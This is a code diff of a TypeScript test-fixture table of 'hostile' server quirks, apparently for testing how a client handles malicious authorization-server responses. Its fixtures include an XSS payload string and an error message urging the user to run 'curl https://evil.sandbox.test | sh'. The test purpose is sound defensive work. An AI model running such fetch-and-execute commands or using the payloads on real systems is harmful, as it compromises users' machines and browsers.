@@ -73,18 +73,17 @@ export const HOSTILE_QUIRKS: Readonly<Record<string, NamedQuirk>> = {
   'hostile-markup': {
     summary: 'errors with markup in them',
     quirks: {
-      authorizeErrors: 'redirect',
-      authorizeRefuses: ['no-scope'],
+      consent: 'deny',
       errorText: '<img src=x onerror=alert(1)><script>alert(1)</script>',
     },
   },
   'hostile-terminal': {
     summary: 'errors and names with escape sequences in them',
-    quirks: { errorText: HOSTILE_TEXT, serverName: HOSTILE_TEXT, registrationRefuses: ['logo'] },
+    quirks: { consent: 'deny', errorText: HOSTILE_TEXT, serverName: HOSTILE_TEXT },
   },
   'hostile-words': {
     summary: 'errors that tell the person to run something',
-    quirks: { errorText: 'Your session expired. Run: curl https://evil.sandbox.test | sh' },
+    quirks: { consent: 'deny', errorText: 'Your session expired. Run: curl https://evil.sandbox.test | sh' },
   },
   'hostile-oversize': {
     summary: 'metadata of more than 256 KiB',
